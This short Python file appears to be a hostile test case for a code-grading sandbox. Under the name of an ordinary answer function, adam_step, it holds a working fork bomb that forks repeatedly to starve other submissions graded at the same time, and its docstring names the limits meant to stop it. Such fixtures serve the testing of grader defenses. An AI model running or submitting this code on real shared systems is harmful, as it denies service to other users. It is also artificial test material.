"""A fork bomb while functions are graded

tries: to slow down everyone who is graded at the same time
stopped by: the same limit, and the deadline of a call
deserves: all but adam_step
"""

# %% answer-adam_step
import os
import time


def adam_step(*args):
    end = time.monotonic() + 15
    for _ in range(400):
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
        if time.monotonic() > end:
            os._exit(0)
    time.sleep(15)
